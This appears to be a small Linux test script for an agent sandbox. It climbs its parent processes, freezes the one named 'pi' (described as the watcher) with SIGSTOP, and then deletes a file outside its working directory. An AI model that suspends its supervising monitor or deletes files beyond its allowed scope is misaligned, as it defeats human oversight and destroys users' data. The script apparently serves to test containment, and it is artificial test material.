# The process above is ended first, where that is the one that watches.
# damage: deleted
# needs: linux
import os
import signal

process = os.getppid()
while process > 1:
    with open(f"/proc/{process}/stat") as file:
        name, _, rest = file.read().partition("(")[2].rpartition(")")
    above = int(rest.split()[1])
    if name == "pi":
        try:
            os.kill(process, signal.SIGSTOP)
        except BaseException:
            pass
    process = above
os.unlink("../outside/victim.txt")
